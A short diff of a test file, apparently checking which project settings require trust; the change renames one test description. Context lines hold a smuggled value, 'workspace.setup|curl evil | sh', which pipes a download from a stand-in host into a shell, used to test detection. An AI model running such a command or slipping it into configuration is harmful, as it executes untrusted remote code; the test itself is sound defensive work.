@@ -77,7 +77,7 @@ describe("the items of a project that need trust", () => {
     expect(await name(`${elsewhere}.link`)).toEqual([own, "workspace.setup|curl evil | sh"]);
   });
 
-  it("are decided for every setting with free text", async () => {
+  it("include each setting with free text, except the harmless ones that are listed here", async () => {
     const texts = configKeys.filter(({ type }) => type === "text" || type === "list").map(({ key }) => key);
     const named: string[] = [];
     for (const key of texts) {
